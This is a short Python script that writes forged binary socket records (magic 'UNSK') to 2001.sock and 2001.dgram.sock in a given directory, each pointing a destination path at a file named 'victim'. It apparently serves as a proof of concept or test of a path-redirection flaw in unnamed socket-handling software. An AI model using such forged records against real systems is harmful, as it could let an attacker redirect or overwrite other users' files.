import struct
import sys


def control(path, target):
    dest = struct.pack("<H", 1) + target.encode()
    body = struct.pack("<QQIIII", 0x4B534E55, 0, 0, len(dest), 0, 0) + bytes(128) + dest.ljust(128, b"\0")
    open(path, "wb").write(body.ljust(452, b"\0"))


for name in ("2001.sock", "2001.dgram.sock"):
    control(sys.argv[1] + "/" + name, sys.argv[1] + "/victim")
